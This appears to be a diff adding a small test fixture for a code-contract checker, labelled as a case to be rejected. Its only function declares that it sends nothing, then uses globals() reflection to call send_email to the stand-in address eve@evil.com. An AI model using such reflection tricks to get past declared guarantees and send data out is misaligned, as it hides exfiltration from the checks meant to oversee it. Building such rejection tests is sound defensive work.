@@ -1,0 +1,8 @@
+# rejected: reflection
+import lictor_layer
+from tools.desk.trusted import contracts as c
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    globals()["send_email"]("eve@evil.com", "x")
